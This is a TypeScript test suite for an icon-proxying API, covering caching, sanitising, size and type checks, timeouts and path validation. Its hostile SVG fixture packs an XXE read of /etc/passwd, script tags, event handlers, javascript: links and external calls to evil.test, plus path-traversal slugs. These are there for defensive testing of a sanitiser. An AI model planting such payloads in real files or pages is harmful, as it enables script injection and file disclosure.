import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeHubMatrix, expectJsonError, jsonInit } from '../../support/hub-harness';
import { type IconServer, startIconServer, TINY_PNG } from '../../support/icon-server';

const CLEAN_SVG =
  '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h24v24H0z" fill="#2496ed"/></svg>';

/** Every trick the sanitiser must defeat, each next to a harmless shape that must survive. */
const HOSTILE_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" onload="alert('onload')">
  <script>alert('script')</script>
  <script xlink:href="https://evil.test/remote.js"/>
  <foreignObject width="24" height="24"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/frame"/></foreignObject>
  <style>@import url("https://evil.test/import.css");</style>
  <style>.bg{background-image:url(https://evil.test/tracker.png)}</style>
  <a xlink:href="javascript:alert('link')"><rect id="kept-rect" width="4" height="4" onclick="alert('click')"/></a>
  <image href="https://evil.test/external.png" width="24" height="24"/>
  <use href="https://evil.test/sprite.svg#icon"/>
  <rect style="fill:url(https://evil.test/paint)" width="2" height="2"/>
  <text>&xxe;</text>
  <animate attributeName="href" to="javascript:alert('animate')"/>
  <set attributeName="onmouseover" to="alert('set')"/>
  <path id="kept-path" d="M0 0h24v24H0z" fill="#f00"/>
</svg>`;

const HOSTILE_HINTS = [
  'alert',
  'evil.test',
  '<script',
  'onload',
  'onclick',
  'foreignObject',
  'iframe',
  '@import',
  'javascript:',
  '<image',
  '<animate',
  '<set',
  'ENTITY',
  'passwd',
];

const env: Record<string, string> = { DD_ICONS_TIMEOUT: '1' };
let icons: IconServer;

beforeAll(async () => {
  icons = await startIconServer();
  env.DD_ICONS_SELFHST_URL = `${icons.url}/selfhst`;
  env.DD_ICONS_SIMPLEICONS_URL = `${icons.url}/simple-icons`;
  env.DD_ICONS_DASHBOARDICONS_URL = `${icons.url}/dashboard-icons/`;
  icons.serve('/selfhst/svg/clean.svg', { contentType: 'image/svg+xml; charset=utf-8', body: CLEAN_SVG });
  icons.serve('/dashboard-icons/svg/hostile.svg', { contentType: 'image/svg+xml', body: HOSTILE_SVG });
  icons.serve('/selfhst/png/raster.png', { contentType: 'image/png', body: TINY_PNG });
  icons.serve('/selfhst/png/fake.png', { contentType: 'image/png', body: '<html><script>alert(1)</script></html>' });
  icons.serve('/simple-icons/icons/html.svg', { contentType: 'text/html', body: CLEAN_SVG });
  icons.serve('/simple-icons/icons/broken.svg', { contentType: 'image/svg+xml', body: '<svg><g></svg>' });
  icons.serve('/selfhst/svg/huge.svg', { contentType: 'image/svg+xml', body: `<svg>${' '.repeat(300 * 1024)}</svg>` });
  icons.serve('/selfhst/svg/huge-chunked.svg', {
    contentType: 'image/svg+xml',
    body: `<svg>${' '.repeat(300 * 1024)}</svg>`,
    chunked: true,
  });
  icons.serve('/selfhst/svg/failing.svg', { status: 500, contentType: 'text/plain', body: 'oops' });
  icons.serve('/selfhst/svg/hung.svg', { contentType: 'image/svg+xml', body: CLEAN_SVG, stall: true });
  for (const name of ['offline', 'cleared', 'shared']) {
    icons.serve(`/simple-icons/icons/${name}.svg`, { contentType: 'image/svg+xml', body: CLEAN_SVG });
  }
});

afterAll(async () => {
  await icons?.close();
});

const requestsFor = (path: string) => icons.requests.filter((requested) => requested === path).length;

describeHubMatrix(
  'icons',
  (client) => {
    it('proxies an SVG, answers the second request from the cache, and marks it safe to open', async () => {
      const before = requestsFor('/selfhst/svg/clean.svg');
      const first = await client().request('/api/v1/icons/selfhst/clean');
      expect(first.status).toBe(200);
      expect(first.headers.get('content-type')).toBe('image/svg+xml');
      expect(first.headers.get('x-icon-cache')).toBe('miss');
      expect(first.headers.get('content-security-policy')).toContain("default-src 'none'");
      expect(first.headers.get('content-security-policy')).toContain('sandbox');
      expect(first.headers.get('x-content-type-options')).toBe('nosniff');
      const text = await first.text();
      expect(text).toContain('<path d="M0 0h24v24H0z" fill="#2496ed"/>');
      const second = await client().request('/api/v1/icons/selfhst/clean');
      expect(second.headers.get('x-icon-cache')).toBe('hit');
      expect(await second.text()).toBe(text);
      expect(requestsFor('/selfhst/svg/clean.svg') - before).toBe(1);
    });

    it('serves a hostile SVG with every script, handler, foreign object and external reference taken out', async () => {
      const response = await client().request('/api/v1/icons/dashboard-icons/hostile.svg');
      expect(response.status).toBe(200);
      const text = await response.text();
      for (const hint of HOSTILE_HINTS) expect(text, hint).not.toContain(hint);
      expect(text).toContain('id="kept-path"');
      expect(text).toContain('id="kept-rect"');
      expect(text.startsWith('<svg ')).toBe(true);
      // What the cache holds is the sanitised icon too.
      const again = await client().request('/api/v1/icons/dashboard-icons/hostile.svg');
      expect(again.headers.get('x-icon-cache')).toBe('hit');
      expect(await again.text()).toBe(text);
    });

    it('falls back to the PNG when a set has no SVG, byte for byte', async () => {
      const response = await client().request('/api/v1/icons/selfhst/raster');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('image/png');
      expect(new Uint8Array(await response.arrayBuffer())).toEqual(TINY_PNG);
      expect(icons.requests).toContain('/selfhst/svg/raster.svg');
    });

    it('refuses what is not the icon it claims to be, or too big, or broken, with 502 and the reason', async () => {
      const cases: [string, RegExp][] = [
        ['/api/v1/icons/selfhst/fake.png', /signature/],
        ['/api/v1/icons/simple-icons/html', /content type "text\/html"/],
        ['/api/v1/icons/simple-icons/broken', /not a usable SVG/],
        ['/api/v1/icons/selfhst/huge.svg', /larger than 262144 bytes/],
        ['/api/v1/icons/selfhst/huge-chunked.svg', /larger than 262144 bytes/],
        ['/api/v1/icons/selfhst/failing.svg', /answered 500/],
      ];
      for (const [path, reason] of cases) {
        const body = await expectJsonError(await client().request(path), 502);
        expect(String(body.details?.reason), path).toMatch(reason);
      }
    });

    it('gives up on a hung set after DD_ICONS_TIMEOUT', async () => {
      const started = Date.now();
      const body = await expectJsonError(await client().request('/api/v1/icons/selfhst/hung.svg'), 502);
      expect(body.details?.reason).toBe('no answer within 1000 ms');
      expect(Date.now() - started).toBeLessThan(5_000);
    });

    it('answers 404 for an icon no set has, an unknown set, or a format the set lacks; 400 for a bad slug', async () => {
      await expectJsonError(await client().request('/api/v1/icons/selfhst/nothing-here'), 404);
      const unknown = await expectJsonError(await client().request('/api/v1/icons/fontawesome/nginx'), 404);
      expect(unknown.details?.providers).toEqual(['selfhst', 'simple-icons', 'dashboard-icons']);
      await expectJsonError(await client().request('/api/v1/icons/simple-icons/nginx.png'), 404);
      for (const slug of ['Nginx', 'a..b', '-x', 'x'.repeat(101), 'a%20b', 'a%2Fb', '..%2Fsecret']) {
        await expectJsonError(await client().request(`/api/v1/icons/selfhst/${slug}`), 400);
      }
      // Dot segments are resolved before routing: no request leaves the set's folder.
      expect((await client().request('/api/v1/icons/selfhst/%2e%2e')).status).toBe(404);
      expect(icons.requests.filter((path) => path.includes('..') || path.includes('%2'))).toEqual([]);
    });

    it('asks the set once however many requests want the same icon at the same time', async () => {
      const before = requestsFor('/simple-icons/icons/shared.svg');
      const sharedRequestsPerHub = () => requestsFor('/simple-icons/icons/shared.svg') - before;
      const answers = await Promise.all(
        Array.from({ length: 8 }, () => client().request('/api/v1/icons/simple-icons/shared')),
      );
      expect(answers.map((answer) => answer.status)).toEqual(Array(8).fill(200));
      await Promise.all(answers.map((answer) => answer.body?.cancel()));
      // The first run of the matrix fetched it; the second finds it in its own hub's cache or fetches it once.
      expect(requestsFor('/simple-icons/icons/shared.svg')).toBeLessThanOrEqual(2);
      expect(sharedRequestsPerHub()).toBe(1);
    });

    it('serves only cached icons while internetlessMode is on, and asks no set', async () => {
      expect((await client().request('/api/v1/icons/simple-icons/offline')).status).toBe(200);
      const patched = await client().request('/api/v1/settings', jsonInit('PATCH', { internetlessMode: true }));
      expect(patched.status).toBe(200);
      try {
        const before = icons.requests.length;
        const cached = await client().request('/api/v1/icons/simple-icons/offline');
        expect(cached.status).toBe(200);
        expect(cached.headers.get('x-icon-cache')).toBe('hit');
        const missing = await expectJsonError(await client().request('/api/v1/icons/selfhst/never-fetched'), 404);
        expect(missing.details?.reason).toBe('internetless-mode');
        expect(icons.requests.length).toBe(before);
      } finally {
        await client().request('/api/v1/settings', jsonInit('PATCH', { internetlessMode: false }));
      }
    });

    it('DELETE /icons/cache empties the cache: the next request goes to the set again', async () => {
      expect((await client().request('/api/v1/icons/simple-icons/cleared')).status).toBe(200);
      const before = requestsFor('/simple-icons/icons/cleared.svg');
      const cleared = await client().request('/api/v1/icons/cache', { method: 'DELETE' });
      expect(cleared.status).toBe(200);
      expect((await cleared.json()).cleared).toBeGreaterThan(0);
      const again = await client().request('/api/v1/icons/simple-icons/cleared');
      expect(again.headers.get('x-icon-cache')).toBe('miss');
      expect(requestsFor('/simple-icons/icons/cleared.svg')).toBe(before + 1);
    });
  },
  env,
);
